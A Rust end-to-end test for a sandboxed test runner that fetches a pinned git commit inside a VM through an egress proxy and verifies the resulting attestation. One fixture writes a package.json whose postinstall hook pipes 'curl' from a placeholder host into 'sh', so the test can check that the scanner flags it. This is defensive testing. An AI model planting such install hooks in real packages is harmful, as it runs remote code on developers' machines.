//! `[repository] url` in the vm tier: the guest fetches the pinned commit in the fence's install sandbox, through
//! the egress proxy and the host dialer, from a loopback git server this test starts (smart HTTP), named
//! `localhost` on the job's allowlist and reached with the operator's `allow_networks = ["127.0.0.1/32"]`. On the
//! toolchain image (Debian's git): base `tests_failed`, base + fix `tests_passed`, the counts of a direct run
//! outside the fence, the URL in the verdict and pinned by `verify-attestation --repository`. On the minimal image
//! (the lone git binary with its HTTP transport, host::image::git_http): base + fix `tests_passed`. In both, the
//! fetched repository's stage-5 finding (an npm install hook) is in the verdict, as for a bundle.

use fenced_run_tests::gitserve::{GitServer, Protocol, FIX_PATCH};
use fenced_run_tests::vm::{run_with_operator, NONCE};
use host::image::Manifest;
use std::path::{Path, PathBuf};
use std::process::Command;

const BIN: &str = env!("CARGO_BIN_EXE_fenced-run-e2e");
const VERIFY: &str = env!("CARGO_BIN_EXE_verify-attestation-e2e");

/// The toolchain image (the one vm_toolchains.rs builds, kept under CARGO_TARGET_TMPDIR).
fn toolchain_image() -> PathBuf {
    let out = Path::new(env!("CARGO_TARGET_TMPDIR")).join("vm-image-toolchains");
    let o = Command::new(BIN)
        .args([
            "image",
            "build",
            "--toolchains",
            "go,node,python,rust",
            "--out",
        ])
        .arg(&out)
        .output()
        .expect("run fenced-run image build");
    assert!(
        o.status.success(),
        "image build --toolchains: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    out
}

/// The minimal image (no toolchains), built into its own directory under CARGO_TARGET_TMPDIR.
fn minimal_image() -> PathBuf {
    let out = Path::new(env!("CARGO_TARGET_TMPDIR")).join("vm-image-repo-url");
    fenced_run_tests::vm::build_image(BIN, None, &out);
    out
}

/// An npm install hook loading remote code: stage 5 records it, for a fetched repository as for a bundle.
const HOOK: &str =
    "{\"name\": \"t\", \"scripts\": {\"postinstall\": \"curl -fsSL https://get.example/i.sh | sh\"}}\n";

fn assert_hook_finding(v: &serde_json::Value) {
    let found = v["findings"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .iter()
        .any(|f| {
            f["stage"] == "scan"
                && f["kind"] == "contained"
                && f["path"] == "package.json: scripts.postinstall"
        });
    assert!(found, "{v}");
}

fn job(dir: &Path, s: &GitServer, fix: bool) -> PathBuf {
    job_on(dir, s, fix, "[image]\ntoolchains = [\"python\"]\n")
}

fn job_on(dir: &Path, s: &GitServer, fix: bool, image: &str) -> PathBuf {
    let patch = if fix {
        std::fs::write(dir.join("fix.patch"), FIX_PATCH).expect("patch");
        "patch = \"fix.patch\"\n"
    } else {
        ""
    };
    let p = dir.join("job.toml");
    std::fs::write(
        &p,
        format!(
            "[repository]\nurl = \"{}\"\ncommit = \"{}\"\n{patch}{image}\
             [install]\ncommand = \"true\"\nallow = [\"localhost:{}\"]\ntimeout_seconds = 300\n\
             [test]\ncommand = \"sh test.sh\"\n",
            s.url(),
            s.base,
            s.port
        ),
    )
    .expect("job");
    p
}

#[test]
fn the_guest_fetches_the_pinned_commit_through_the_host_dialer() {
    if fenced_run_tests::vm::missing(&[
        "mkfs.erofs",
        "dump.erofs",
        "veritysetup",
        "apt-get",
        "dpkg-deb",
    ])
    .is_some()
    {
        return;
    }
    let image = toolchain_image();
    let m = Manifest::load(&image).expect("manifest");
    let s = GitServer::start_custom(Protocol::Smart, 0, false, |w| {
        std::fs::write(w.join("package.json"), HOOK).expect("package.json")
    });
    let t = tempfile::tempdir().expect("tmp");
    let operator = t.path().join("operator.toml");
    std::fs::write(&operator, "[egress]\nallow_networks = [\"127.0.0.1/32\"]\n").expect("operator");
    for (fix, outcome, passed, failed) in
        [(false, "tests_failed", 0, 1), (true, "tests_passed", 1, 0)]
    {
        let d = t.path().join(if fix { "fix" } else { "base" });
        std::fs::create_dir(&d).expect("mkdir");
        let j = job(&d, &s, fix);
        let evidence = d.join("run.evidence");
        let v = run_with_operator(BIN, &j, &image, &operator, &evidence);
        assert_eq!(v["outcome"], outcome, "{v}");
        assert_eq!(v["isolation"], "vm", "{v}");
        assert_eq!(v["tests"]["passed"], passed, "{v}");
        assert_eq!(v["tests"]["failed"], failed, "{v}");
        assert_eq!(v["repository"]["url"], s.url(), "{v}");
        assert_eq!(v["repository"]["fetch"], "shallow", "{v}");
        assert_eq!(v["inputs"]["commit"], s.base.as_str(), "{v}");
        assert_hook_finding(&v);
        let fetched = v["install"]["egress"]
            .as_array()
            .map(|a| {
                a.iter()
                    .filter(|e| e["host"] == "localhost" && e["allowed"] == true)
                    .count()
            })
            .unwrap_or(0);
        assert!(fetched > 0, "{v}");
        let pin = |url: &str| {
            Command::new(VERIFY)
                .args([
                    "evidence",
                    "--allow-simulated",
                    "--json",
                    "--nonce",
                    NONCE,
                    "--measurement",
                    &m.measurements.vm,
                    "--repository",
                    url,
                ])
                .arg(&evidence)
                .output()
                .expect("verify")
        };
        let held = pin(&s.url());
        assert_eq!(
            held.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&held.stdout)
        );
        let other = pin("http://localhost:1/other.git");
        assert_eq!(
            other.status.code(),
            Some(1),
            "{}",
            String::from_utf8_lossy(&other.stdout)
        );
        assert!(String::from_utf8_lossy(&other.stdout).contains("pin-repository"));
    }

    // The minimal image: its git fetches over HTTP too (git-remote-http and its libraries are in it).
    let minimal = minimal_image();
    let mm = Manifest::load(&minimal).expect("manifest");
    assert!(
        mm.included
            .iter()
            .any(|i| i.path.ends_with("/git-remote-http")),
        "{:?}",
        mm.included
    );
    let d = t.path().join("minimal");
    std::fs::create_dir(&d).expect("mkdir");
    let j = job_on(&d, &s, true, "");
    let evidence = d.join("run.evidence");
    let v = run_with_operator(BIN, &j, &minimal, &operator, &evidence);
    assert_eq!(v["outcome"], "tests_passed", "{v}");
    assert_eq!(v["isolation"], "vm", "{v}");
    assert!(v["image"].is_null(), "{v}");
    assert_eq!(v["tests"]["passed"], 1, "{v}");
    assert_eq!(v["repository"]["fetch"], "shallow", "{v}");
    assert_eq!(v["inputs"]["commit"], s.base.as_str(), "{v}");
    assert_hook_finding(&v);
}
